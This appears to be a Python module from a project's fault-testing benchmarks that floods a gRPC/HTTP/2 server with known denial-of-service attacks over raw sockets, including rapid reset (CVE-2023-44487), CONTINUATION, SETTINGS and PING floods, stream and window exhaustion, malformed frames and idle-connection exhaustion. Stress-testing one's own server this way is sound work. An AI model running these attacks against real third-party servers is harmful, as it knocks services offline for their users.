"""Attacks on connections: frames of HTTP/2 (RFC 9113) that no gRPC client sends, over plain sockets.

A program of its own, so that whoever calls meanwhile does not wait for it: NAME HOST PORT SHARE.
"""

import random
import socket
import sys
import time
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress

from benchmarks.faults.mutations import CLASSES
from gantry.v1 import generation_pb2
from services.gateway.process import raise_descriptor_limit

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _END_HEADERS = 1, 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Of one who attacks: where nothing is taken any more, nothing more is sent.
_PATIENCE_SECONDS = 3.0
_FRAMES_AT_ONCE, _CONNECTIONS_AT_ONCE = 100, 4
_SILENT_SECONDS = 15.0

Address = tuple[str, int]


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


_OPENING = _PREFACE + _frame(_SETTINGS, 0, 0, b"")


def _headers(path: str = "/gantry.v1.GenerationService/Sample") -> bytes:
    """The headers of a call, each written out (RFC 7541, 6.2.2)."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost", "te": "trailers"}
    fields["content-type"] = "application/grpc"
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields.items())


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def _call(stream: int, *, is_whole: bool = True) -> bytes:
    """A call of Sample, or only its beginning."""
    begun = _frame(_HEADERS, _END_HEADERS, stream, _headers())
    message = generation_pb2.SampleRequest(model=CLASSES).SerializeToString()
    data = _frame(_DATA, _END_STREAM, stream, b"\0" + len(message).to_bytes(4, "big") + message)
    return begun + data if is_whole else begun


def _streams(count: float) -> Iterator[int]:
    return iter(range(1, 2 * int(count), 2))


def _flood(address: Address, frames: Iterable[bytes], *, reads: bool = True) -> None:
    """Open a connection and send frames until they end, or the other side hangs up or takes no more."""
    pending = list(frames)
    with suppress(OSError), socket.create_connection(address, _PATIENCE_SECONDS) as connection:
        connection.sendall(_OPENING)
        for place in range(0, len(pending), _FRAMES_AT_ONCE):
            connection.sendall(b"".join(pending[place : place + _FRAMES_AT_ONCE]))
            while reads and _has_read(connection):
                """What has come is of no interest."""
        time.sleep(1.0)


def _has_read(connection: socket.socket) -> bool:
    try:
        return bool(connection.recv(1 << 16, socket.MSG_DONTWAIT))
    except BlockingIOError:
        return False


def _again(count: float, attack: Callable[[], None]) -> None:
    """Attack so often, a few at a time."""
    with ThreadPoolExecutor(_CONNECTIONS_AT_ONCE) as threads:
        for attacking in [threads.submit(attack) for _ in range(int(count))]:
            attacking.result()


def rapid_resets(address: Address, share: float) -> None:
    """Begin calls and reset each at once (CVE-2023-44487)."""
    reset = (8).to_bytes(4, "big")
    frames = [_call(stream) + _frame(_RST_STREAM, 0, stream, reset) for stream in _streams(5_000)]
    _again(40 * share, lambda: _flood(address, frames))


def continuations(address: Address, share: float) -> None:
    """Send headers without an end (VU#421644)."""
    begun = _frame(_HEADERS, 0, 1, _headers())
    more = _frame(_CONTINUATION, 0, 1, (b"\0" + _text("x") + _text("y" * 100)) * 150)
    _again(40 * share, lambda: _flood(address, [begun, *[more] * 4_000]))


def settings(address: Address, share: float) -> None:
    """Send settings, each of which has to be acknowledged, and read no answer (CVE-2019-9515)."""
    change = _frame(_SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")
    _again(20 * share, lambda: _flood(address, [change] * 100_000, reads=False))


def pings(address: Address, share: float) -> None:
    """Send pings, and read no answer (CVE-2019-9512)."""
    ping = _frame(_PING, 0, 0, bytes(8))
    _again(20 * share, lambda: _flood(address, [ping] * 100_000, reads=False))


def endless_streams(address: Address, share: float) -> None:
    """Begin calls of which nothing more comes, far more than a connection may have."""
    frames = [_call(stream, is_whole=False) for stream in _streams(10_000)]
    _again(20 * share, lambda: _flood(address, frames))


def unread_answers(address: Address, share: float) -> None:
    """Let no answer through: the window is closed, and nothing is read."""
    closed = _frame(_SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
    frames = [closed, *[_call(stream) for stream in _streams(200)]]
    _again(40 * share, lambda: _flood(address, frames, reads=False))


def garbage(address: Address, share: float) -> None:
    """Send what is no HTTP/2, and frames that are not allowed."""
    rng = random.Random(1)

    def frame() -> bytes:
        stream = rng.choice([0, 1, 2, 3, 2**31 - 1])
        return _frame(rng.randrange(12), rng.randrange(256), stream, rng.randbytes(rng.choice([0, 4, 5, 8, 100])))

    for _ in range(int(1_000 * share)):
        kind = rng.randrange(5)
        beginning = [b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01", b"", rng.randbytes(20), _OPENING][kind]
        frames = [_call(1)] + [frame() for _ in range(5)] if kind == 4 else [rng.randbytes(rng.choice([10, 5_000]))]
        oversize = (1 << 24) - 1
        if kind == 4 and rng.random() < 0.2:
            frames.append(oversize.to_bytes(3, "big") + bytes([_DATA, 0, 0, 0, 0, 1]) + bytes(1 << 16))
        if kind == 4 and rng.random() < 0.2:
            frames.append(_frame(_WINDOW_UPDATE, 0, 0, (2**31 - 1).to_bytes(4, "big")) * 2)
        with suppress(OSError), socket.create_connection(address, _PATIENCE_SECONDS) as connection:
            connection.sendall(beginning + b"".join(frames))
            time.sleep(0.01)


def silence(address: Address, share: float) -> None:
    """Open thousands of connections that say nothing, half of the preface, or all of it and then nothing."""
    with ExitStack() as open_:
        for number in range(min(int(6_000 * share), raise_descriptor_limit())):
            with suppress(OSError):
                connection = open_.enter_context(socket.create_connection(address, _PATIENCE_SECONDS))
                connection.sendall((b"", _PREFACE[:10], _OPENING)[number % 3])
        time.sleep(_SILENT_SECONDS)


ATTACKS: dict[str, Callable[[Address, float], None]] = {
    "resets": rapid_resets,
    "continuations": continuations,
    "settings": settings,
    "pings": pings,
    "streams": endless_streams,
    "unread": unread_answers,
    "garbage": garbage,
    "silence": silence,
}

if __name__ == "__main__":
    _name, _host, _port, _share = sys.argv[1:]
    ATTACKS[_name]((_host, int(_port)), float(_share))
